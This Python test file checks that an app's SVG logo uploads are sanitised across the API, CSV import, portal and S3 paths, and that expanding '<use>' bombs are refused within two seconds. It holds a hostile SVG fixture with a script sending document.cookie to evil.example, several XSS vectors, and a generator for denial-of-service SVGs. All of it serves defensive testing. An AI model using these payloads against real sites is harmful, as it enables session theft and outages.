"""SVG logos: bombs refused fast (422, one line), scripts never stored, SVGs never run where they are served."""

from __future__ import annotations

import io
import time
import urllib.request
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from app.models import Partner
from app.partner_import import import_partners_file
from app.services import Services
from tests.api_support import bearer, make_token
from tests.web.conftest import post

EVIL_SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="80"
     onload="alert(document.domain)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect width="200" height="80" fill="#0a7" onclick="alert(1)"/>
  <a xlink:href="javascript:alert(2)"><circle cx="40" cy="40" r="30" fill="#fff"/></a>
  <image href="https://evil.example/track.png" width="10" height="10"/>
  <use href="https://evil.example/sprite.svg#x"/>
  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>
  <style>@import url(https://evil.example/x.css); rect { fill: url(https://evil.example/p) }</style>
  <animate attributeName="href" to="javascript:alert(3)"/>
  <set attributeName="onmouseover" to="alert(4)"/>
</svg>"""

FORBIDDEN = (b"<script", b"onload", b"onclick", b"javascript:", b"evil.example", b"foreignObject", b"<animate",
             b"<set", b"@import")  # fmt: skip


def use_bomb(depth: int, fan_out: int = 10) -> bytes:
    """Each level <use>s the one below fan_out times: fan_out**depth rectangles from a few hundred bytes."""
    levels = ['<rect id="l0" width="1" height="1"/>']
    for n in range(1, depth):
        levels.append(f'<g id="l{n}">' + f'<use href="#l{n - 1}"/>' * fan_out + "</g>")
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><defs>'
        + "".join(levels)
        + f'</defs><use href="#l{depth - 1}"/></svg>'
    ).encode()


def assert_clean(data: bytes) -> None:
    assert data.lstrip().startswith(b"<svg"), data[:80]
    for needle in FORBIDDEN:
        assert needle not in data, (needle, data)


@pytest.mark.parametrize("depth", [5, 8, 12])
def test_use_bomb_is_refused_in_under_two_seconds(client: Any, services: Services, sample_partners: Any,
                                                   depth: int) -> None:  # fmt: skip
    token = bearer(make_token(services))
    bomb = use_bomb(depth)
    started = time.monotonic()
    answer = client.put("/api/v1/partners/summit-it/logo", data=bomb,
                        headers={**token, "Content-Type": "image/svg+xml"})  # fmt: skip
    elapsed = time.monotonic() - started
    # The bound the issue asks for; before the fix depth 5 took 9.5 s and depth 8 over 200 s.
    assert elapsed < 2.0, f"{elapsed:.2f} s"
    assert answer.status_code == 422
    message = answer.get_json()["message"]
    assert "once <use> is expanded" in message and "\n" not in message


@pytest.mark.parametrize("size", [(1, 64), (64, 1), (1, 1000)])
def test_extreme_shapes_answer_422_not_500(client: Any, services: Services, sample_partners: Any,
                                           size: tuple[int, int]) -> None:  # fmt: skip
    width, height = size
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" width="{width}" height="{height}"><rect width="{width}" height="{height}"/></svg>'
    answer = client.put("/api/v1/partners/summit-it/logo", data=svg.encode(),
                        headers={**bearer(make_token(services)), "Content-Type": "image/svg+xml"})  # fmt: skip
    assert answer.status_code == 422 and "\n" not in answer.get_json()["message"]


def test_drawing_runs_in_a_time_limited_child_process(make_app: Any) -> None:
    """A logo that passes the budget but draws slowly is cut off by the child's time-out."""
    app = make_app(LOGO_CHECK_TIMEOUT=0.01)  # shorter than any Python start-up: the time-out must fire
    services = app.extensions["cobrand"]
    import_partners_file(services, Path("sample_data/partners.csv").resolve())
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="40"><rect width="100" height="40"/></svg>'
    answer = app.test_client().put("/api/v1/partners/summit-it/logo", data=svg,
                                   headers={**bearer(make_token(services)), "Content-Type": "image/svg+xml"})  # fmt: skip
    assert answer.status_code == 422 and "takes over 0.01 s to draw" in answer.get_json()["message"]


def _stored_logo(services: Services, slug: str) -> bytes:
    with services.db.session() as session:
        key = session.scalar(select(Partner.logo_key).where(Partner.slug == slug))
    assert key and key.endswith(".svg"), key
    return services.storage.open(key)


def test_script_svg_through_the_api_is_stored_clean(
    client: Any, services: Services, sample_partners: Any
) -> None:
    answer = client.put("/api/v1/partners/summit-it/logo", data=EVIL_SVG,
                        headers={**bearer(make_token(services)), "Content-Type": "image/svg+xml"})  # fmt: skip
    assert answer.status_code == 200, answer.get_json()
    assert_clean(_stored_logo(services, "summit-it"))


def test_script_svg_through_the_csv_import_is_stored_clean(services: Services, tmp_path: Path) -> None:
    (tmp_path / "evil.svg").write_bytes(EVIL_SVG)
    (tmp_path / "partners.csv").write_text(
        "slug,name,type,tier,region,logo\nevil,Evil Inc,reseller,gold,NA,evil.svg\n"
    )
    report = import_partners_file(services, tmp_path / "partners.csv")
    assert report.errors == [] and report.created == 1
    assert_clean(_stored_logo(services, "evil"))


def test_script_svg_through_the_portal_is_stored_clean_and_served_sandboxed(
    partner: Any, users: Services
) -> None:
    data = {"email": "a@summit-it.example", "phone": "", "website": "", "address": "",
            "logo": (io.BytesIO(EVIL_SVG), "logo.svg")}  # fmt: skip
    answer = post(partner, "/portal/profile", data, content_type="multipart/form-data")
    assert answer.status_code == 302, answer.get_data(as_text=True)[:2000]
    assert_clean(_stored_logo(users, "summit-it"))
    served = partner.get("/portal/profile/logo")
    assert served.status_code == 200 and served.mimetype == "image/svg+xml"
    assert "sandbox" in served.headers["Content-Security-Policy"]
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.headers["Content-Disposition"].startswith("attachment")
    assert_clean(served.data)


def test_svg_through_a_presigned_s3_url_comes_typed_and_as_an_attachment(
    make_app: Any, s3_endpoint: str, s3_credentials: dict[str, str], s3_bucket: str, monkeypatch: Any
) -> None:
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", s3_credentials["aws_access_key_id"])
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", s3_credentials["aws_secret_access_key"])
    monkeypatch.setenv("AWS_DEFAULT_REGION", s3_credentials["region_name"])
    app = make_app(
        STORAGE_URL=f"s3://{s3_bucket}/cobrand", S3_ENDPOINT_URL=s3_endpoint, WTF_CSRF_ENABLED=False
    )
    services = app.extensions["cobrand"]
    import_partners_file(services, Path("sample_data/partners.csv").resolve())
    admin = bearer(make_token(services))
    client = app.test_client()
    assert client.put("/api/v1/partners/summit-it/logo", data=EVIL_SVG,
                      headers={**admin, "Content-Type": "image/svg+xml"}).status_code == 200  # fmt: skip
    assert_clean(_stored_logo(services, "summit-it"))
    from app.auth.users import create_user
    from app.models import UserRole
    from tests.web.conftest import login

    with services.db.session() as session:
        create_user(session, "a@example.com", UserRole.ADMIN, password="admin-password-1")
    login(client, "a@example.com", "admin-password-1")
    redirect = client.get("/partners/summit-it/logo")
    assert redirect.status_code == 302 and redirect.headers["Location"].startswith(s3_endpoint)
    with urllib.request.urlopen(redirect.headers["Location"], timeout=30) as response:  # loopback SeaweedFS
        assert response.headers["Content-Type"] == "image/svg+xml"
        assert response.headers["Content-Disposition"].startswith("attachment")
        assert_clean(response.read())
